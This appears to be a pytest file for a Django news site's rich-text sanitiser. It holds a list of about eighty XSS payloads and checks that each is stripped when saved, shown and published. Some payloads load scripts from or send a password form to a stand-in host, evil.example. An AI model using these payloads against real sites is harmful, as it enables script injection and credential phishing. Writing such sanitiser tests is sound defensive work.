"""Rich text: what people paste with ill intent is harmless when saved, and again when shown."""

import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from news import editions, richtext
from news.models import Edition, Section
from tests.factories import ArticleFactory

pytestmark = pytest.mark.django_db
HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.gif">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='blob:https://evil.example/1'>x</a>",
    "<a href=x onclick=alert(1) onmouseover=alert(1)>x</a>",
    "<a href=x target=_blank style='position:fixed;inset:0'>x</a>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='x.swf'></object><embed src='x.swf'>",
    "<form action='https://evil.example'><input name=password><button>登录</button></form>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<p style='background:url(javascript:alert(1))' class=messagelist id=main>x</p>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<p>一\0<script\0>alert(1)</script></p>",
    "<script/src=data:,alert(1)></script>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)//",
    "<script type=module>import 'https://evil.example/x.js'</script>",
    "<img src='x' onerror='&#97;lert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<image href=x onerror=alert(1)>",
    "<picture><source srcset=x onerror=alert(1)><img src=x></picture>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>一</select>",
    "<textarea autofocus onfocus=alert(1)>一</textarea>",
    "<marquee onstart=alert(1)>一</marquee>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video poster=javascript:alert(1)></video>",
    "<track default oncuechange=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe src='data:text/html;base64,PHNjcmlwdD4='></iframe>",
    "<frameset onload=alert(1)><frame src=x></frameset>",
    "<embed src=data:image/svg+xml;base64,PHN2Zz4=>",
    "<object type=text/html data=javascript:alert(1)></object>",
    "<applet code=x></applet>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<svg><set attributeName=href to=javascript:alert(1)></svg>",
    "<math href=javascript:alert(1)>一</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>一</maction></math>",
    "<form><button formaction=javascript:alert(1)>一</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='javascript&NewLine;:alert(1)'>x</a>",
    "<a href='feed:javascript:alert(1)'>x</a>",
    "<a href='view-source:javascript:alert(1)'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href=x ping=https://evil.example>x</a>",
    "<a href=x style=behavior:url(x.htc)>x</a>",
    "<p title='x' onpointerenter=alert(1)>一</p>",
    "<div style='background-image:url(https://evil.example/p.gif)'>一</div>",
    "<table background=javascript:alert(1)><tr><td>一</table>",
    "<dialog open onclose=alert(1)>一</dialog>",
    "<xss onafterscriptexecute=alert(1)>一</xss>",
    "<plaintext><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
]
TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "a"}


class Reader(HTMLParser):
    """Reads HTML as a browser would and keeps what is not allowed."""

    def __init__(self):
        super().__init__()
        self.wrong = []

    def handle_starttag(self, tag, attrs):
        if tag not in TAGS:
            self.wrong.append(tag)
        for name, value in attrs:
            if name not in {"href", "rel"}:
                self.wrong.append(f"{tag} {name}")
            seen = re.sub(r"[\x00-\x20]", "", value or "")
            scheme = re.match(r"([a-z][a-z0-9+.-]*):", seen, re.IGNORECASE)
            if name == "href" and scheme and scheme[1].lower() not in {"http", "https"}:
                self.wrong.append(value)

    def handle_comment(self, data):
        self.wrong.append(data)

    def unknown_decl(self, data):
        self.wrong.append(data)


def wrong_in(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.wrong


# PostgreSQL takes no NUL into a text, by whatever way it comes.
STORABLE = [payload for payload in HOSTILE if "\0" not in payload]


@pytest.mark.parametrize("payload", HOSTILE)
def test_a_hostile_payload_is_harmless_when_saved(payload):
    article = ArticleFactory(text=f"<p>正文</p>{payload}")
    kept = Section.objects.get(parent=article).text
    assert wrong_in(kept) == []
    assert "正文" in kept


@pytest.mark.parametrize("payload", STORABLE)
def test_a_hostile_payload_that_came_in_by_another_way_is_harmless_when_shown(client, payload):
    """A restored backup, a script, an older cleaner: what is in the rows is not trusted."""
    article = ArticleFactory(text="<p>正文</p>")
    edition = editions.publish_article(article, by=None)
    content = edition.content
    content["blocks"][0]["html"] = f"<p>正文</p>{payload}<p>文末</p>"
    Edition.objects.filter(pk=edition.pk).update(content={**content, "title": [payload[:40]]})
    page = client.get(reverse("news:article", args=[article.slug])).content.decode()
    start = page.index("<p>正文</p>")
    shown = page[start : page.index("</div>", start)]
    assert wrong_in(shown) == []
    assert payload not in page


@pytest.mark.parametrize("payload", STORABLE)
def test_publishing_cleans_what_stands_in_the_rows(payload):
    article = ArticleFactory()
    Section.objects.filter(parent=article).update(text=f"<p>正文</p>{payload}")
    edition = editions.publish_article(article, by=None)
    assert wrong_in(edition.content["blocks"][0]["html"]) == []


def test_there_are_seventy_five_and_more():
    assert len(set(HOSTILE)) >= 75


def test_every_payload_is_dangerous_if_left_alone():
    assert [payload for payload in HOSTILE if not wrong_in(payload) and "\0" not in payload] == []


def test_what_editors_may_write_stays_as_it_is():
    html = (
        "<p>一<strong>二</strong><em>三</em><br>四</p><ul><li><p>五</p></li></ul><ol><li><p>六</p></li></ol>"
    )
    assert richtext.clean(html) == html


@pytest.mark.parametrize("href", ["https://example.org/a?b=c", "http://example.org", "/schools/", "#top"])
def test_links_within_the_site_and_to_others_stay(href):
    assert f'href="{href}"' in richtext.clean(f'<a href="{href}">x</a>')


@pytest.mark.parametrize("empty", ["", None, "<p></p>", "<p><br></p>", "<p>&nbsp;</p>", "<script>x</script>"])
def test_text_without_words_is_empty(empty):
    assert richtext.clean(empty) == ""
